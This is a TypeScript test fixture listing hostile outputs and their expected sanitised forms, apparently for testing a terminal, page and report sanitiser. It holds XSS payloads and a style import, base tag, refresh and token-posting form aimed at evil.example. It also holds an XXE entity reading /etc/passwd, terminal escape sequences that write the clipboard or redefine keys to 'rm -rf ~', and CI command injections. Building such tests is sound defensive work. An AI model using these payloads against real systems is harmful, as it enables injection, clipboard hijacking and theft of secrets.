/** An output that attacks a terminal, a page or a report, and what is left of it after sanitising. */
export interface HostileOutput {
  readonly name: string;
  readonly bytes: Buffer;
  /** The text that readers, the matcher and the reports see. Colours are kept. */
  readonly seen: string;
}

const esc = '\u001b';
const bell = '\u0007';
const st = `${esc}\\`;

const same = (name: string, text: string): [string, string, string] => [name, text, text];
const gone = (name: string, control: string): [string, string, string] => [name, `a${control}b`, 'ab'];
const named = (name: string, ...points: number[]): [string, string, string] => [
  name,
  `a${String.fromCodePoint(...points)}b`,
  `a${points.map((point) => `⟨U+${point.toString(16).toUpperCase().padStart(4, '0')}⟩`).join('')}b`,
];

const texts: readonly [name: string, raw: string, seen: string][] = [
  // Markup, scripts and addresses stay plain text.
  same('a script', '<script>window.hacked = 1</script>'),
  same('an image that fails', '<img src=x onerror="window.hacked = 1">'),
  same('a drawing with a handler', '<svg/onload=window.hacked=1>'),
  same('a frame', '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>'),
  same('the end of our own elements', '</span></pre></div></section><script>window.hacked=1</script>'),
  same('the end of a script', '</script><script>window.hacked=1</script>'),
  same('a comment', '<!--><script>window.hacked=1</script>-->'),
  same('a style sheet', '<style>@import "//evil.example/x.css"; body { display: none }</style>'),
  same('a new base', '<base href="//evil.example/">'),
  same('a refresh', '<meta http-equiv="refresh" content="0;url=//evil.example/">'),
  same('a form', '<form action="//evil.example/"><input name=token autofocus></form>'),
  same('entities', '&lt;b&gt; &#60;script&#62; &amp;nbsp; &NewLine;'),
  same('a script address', 'javascript:window.hacked=1'),
  same('a data address', 'data:text/html,<script>window.hacked=1</script>'),
  same('an address with a password in Markdown', '[click](javascript:alert(1)) ![x](//evil.example/x.png)'),
  same('a template', '{{constructor.constructor("window.hacked=1")()}} ${window.hacked=1}'),
  same('backticks', '`<b>x</b>` ``` ~~~'),
  same('the end of CDATA', ']]> ]]>]]&gt; <![CDATA['),
  same('a document type with entities', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;'),
  same('a prototype', '__proto__ constructor {"__proto__":{"hacked":1}}'),
  // Control strings for the terminal (OSC, DCS, APC, PM, SOS).
  gone('a title (OSC 0)', `${esc}]0;hacked${bell}`),
  gone('a title (OSC 2), ended by ST', `${esc}]2;hacked${st}`),
  [`a link (OSC 8)`, `a${esc}]8;;javascript:alert(1)${st}link${esc}]8;;${st}b`, 'alinkb'],
  gone('the clipboard (OSC 52)', `${esc}]52;c;aGFja2Vk${bell}`),
  gone('the clipboard asked for (OSC 52)', `${esc}]52;c;?${st}`),
  gone('a colour of the palette (OSC 4)', `${esc}]4;1;rgb:ff/00/00${bell}`),
  gone('a notification (OSC 9)', `${esc}]9;hacked${bell}`),
  gone('a file (OSC 1337)', `${esc}]1337;File=name=eA==;inline=1:aGFja2Vk${bell}`),
  gone('a mark of prompts (OSC 133)', `${esc}]133;D;0${bell}`),
  gone('a mark like ours (OSC 7771)', `${esc}]7771;00000000000000000000000000000000\n${bell}`),
  gone('a picture (DCS)', `${esc}Pq#0;2;0;0;0#0~~${st}`),
  gone('a setting asked for (DCS)', `${esc}P$q"p${st}`),
  gone('a passage through tmux (DCS)', `${esc}Ptmux;${esc}${esc}]52;c;aGFja2Vk${bell}${st}`),
  gone('a bell inside a device string', `${esc}Pq${bell}hidden${st}`),
  gone('a picture (APC)', `${esc}_Gf=24,s=1,v=1;AAAA${st}`),
  gone('a private message (PM)', `${esc}^hacked${st}`),
  gone('a string (SOS)', `${esc}Xhacked${st}`),
  [
    'a string that another sequence gives up',
    `a${esc}]0;x${esc}[31mred${esc}[0mb`,
    `a${esc}[31mred${esc}[0mb`,
  ],
  ['a string that is given up', `a${esc}]0;x\u0018b`, 'ab'],
  ['a string that never ends', `a${esc}]0;never`, 'a'],
  // Questions to the terminal, and modes.
  gone('where the cursor is', `${esc}[6n`),
  gone('what the terminal is', `${esc}[c${esc}[>c${esc}[=c${esc}[>q`),
  gone('the answer-back', '\u0005'),
  gone('the window', `${esc}[21t${esc}[14t${esc}[3;0;0t`),
  gone('a mode asked for', `${esc}[?2004$p`),
  gone('the mouse', `${esc}[?1003h${esc}[?1006h`),
  gone('pasting and focus', `${esc}[?2004h${esc}[?1004h`),
  gone('the second screen', `${esc}[?1049h`),
  // By ECMA-48, the `r` ends this sequence.
  ['keys redefined', `a${esc}[0;59;"rm -rf ~";13pb`, 'am -rf ~";13pb'],
  gone('printing', `${esc}[5i${esc}[4i`),
  gone('a reset', `${esc}c`),
  gone('a soft reset', `${esc}[!p`),
  // Sequences that draw over earlier text.
  ['erasing', `secret plan${esc}[2K${esc}[1Gpassed`, 'secret planpassed'],
  ['moving up', `failed\n${esc}[1A${esc}[2Kpassed`, 'failed\npassed'],
  ['a return that overwrites', 'failed\rpassed', 'failed\npassed'],
  ['returns in a row', 'failed\r\r\rpassed\r', 'failed\npassed'],
  gone('going back', '\b\b\b'),
  gone('deleting', '\u007f\u007f'),
  gone('bells', bell.repeat(1000)),
  gone('NULs', '\u0000'.repeat(100)),
  gone('vertical tabs and form feeds', '\u000b\u000c'),
  gone('shifts into other character sets', `\u000e\u000f${esc}(0${esc}n`),
  ['colours', `${esc}[31mred${esc}[38;2;1;2;3mrgb${esc}[0m`, `${esc}[31mred${esc}[38;2;1;2;3mrgb${esc}[0m`],
  [
    'colours that hide',
    `${esc}[8mhidden${esc}[30;40mblack${esc}[0m`,
    `${esc}[8mhidden${esc}[30;40mblack${esc}[0m`,
  ],
  ['a colour with a private prefix', `${esc}[>4;2mx${esc}[?4my`, 'xy'],
  ['a sequence with a line end inside', `a${esc}[3\n1mb`, `a\n${esc}[31mb`],
  ['a sequence inside a sequence', `a${esc}[3${esc}[1mb`, `a${esc}[1mb`],
  ['a sequence that is too long', `a${esc}[${'1;'.repeat(500)}mb`, 'ab'],
  ['a sequence with a letter of no alphabet of its', `a${esc}[3日本`, 'a日本'],
  ['a sequence that never ends', `a${esc}[31`, 'a'],
  // Control characters of the C1 set.
  ['C1: a control sequence', 'a\u009b31mb', 'a31mb'],
  ['C1: a string', 'a\u009d0;title\u009cb', 'a0;titleb'],
  [
    'C1: a quotation mark in a wrong encoding',
    'say \u00e2\u0080\u009dgo\u00e2\u0080\u009d on',
    'say âgoâ on',
  ],
  gone('C1: the next line and others', '\u0084\u0085\u0088\u008d\u0090\u0098\u009e\u009f'),
  // Invisible characters.
  named('an override to the left', 0x202e),
  named('embeddings and isolates', 0x202a, 0x202b, 0x202d, 0x2066, 0x2067, 0x2068, 0x2069, 0x202c),
  named('marks of direction', 0x200e, 0x200f, 0x061c),
  named('a space without width', 0x200b),
  named('joiners of words and a byte order mark', 0x2060, 0xfeff),
  named('a soft hyphen', 0x00ad),
  named('letters of tags', 0xe0041, 0xe007f),
  named('separators of lines and paragraphs', 0x2028, 0x2029),
  named('a filler that looks like nothing', 0x3164, 0xffa0),
  named('notes between lines', 0xfff9, 0xfffb),
  named('characters that XML cannot hold', 0xfffe, 0xffff, 0x1fffe),
  same('look-alikes', 'раssеd pаssed ｐａｓｓｅｄ'),
  same('an emoji of several', 'a 👩‍👩‍👧 ⛵️ b'),
  same('marks upon marks', `Z${'\u0301\u0489'.repeat(200)}`),
  same('text that runs to the left', 'שלום 123 abc مرحبا'),
  // Commands of CI systems.
  same('commands of GitHub', '::set-output name=x::y\n  ::add-mask::passed\n::stop-commands::x\n##[error]x'),
  same('commands of others', '##vso[task.setvariable variable=x]y\n##teamcity[testFailed name=x]'),
  same('points of TAP', 'ok 1 - x\nnot ok 2\nBail out!\n1..0'),
  // Length.
  same('a line of 100,000 characters', 'x'.repeat(100_000)),
  ['10,000 changes of colour', `${esc}[31mx${esc}[0m`.repeat(10_000), `${esc}[31mx${esc}[0m`.repeat(10_000)],
];

const broken: readonly [name: string, bytes: readonly number[], seen: string][] = [
  ['bytes that are no UTF-8', [0x61, 0xff, 0xfe, 0x62], 'a\ufffd\ufffdb'],
  ['a character that is cut', [0x61, 0xe2, 0x82, 0x62], 'a\ufffdb'],
  ['an overlong solidus', [0x61, 0xc0, 0xaf, 0x62], 'a\ufffd\ufffdb'],
  ['half of a pair', [0x61, 0xed, 0xa0, 0x80, 0x62], 'a\ufffd\ufffd\ufffdb'],
  ['beyond Unicode', [0x61, 0xf4, 0x90, 0x80, 0x80, 0x62], 'a\ufffd\ufffd\ufffd\ufffdb'],
  ['an escape behind a lone continuation', [0x61, 0x80, 0x1b, 0x5b, 0x32, 0x4a, 0x62], 'a\ufffdb'],
];

/**
 * More than eighty hostile outputs: every kind that is known to have fooled a terminal, a page or a report.
 */
export const hostileOutputs: readonly HostileOutput[] = [
  ...texts.map(([name, raw, seen]) => ({ name, bytes: Buffer.from(raw), seen })),
  ...broken.map(([name, bytes, seen]) => ({ name, bytes: Buffer.from(bytes), seen })),
];
